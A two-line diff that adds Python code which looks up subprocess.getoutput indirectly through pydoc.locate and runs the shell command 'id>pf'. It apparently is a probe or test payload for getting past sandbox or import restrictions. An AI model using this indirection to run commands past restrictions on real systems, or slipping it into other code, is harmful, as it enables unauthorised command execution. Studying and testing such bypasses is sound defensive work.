@@ -1,0 +1,2 @@
+from pydoc import locate
+locate("subprocess.getoutput")("id>pf")
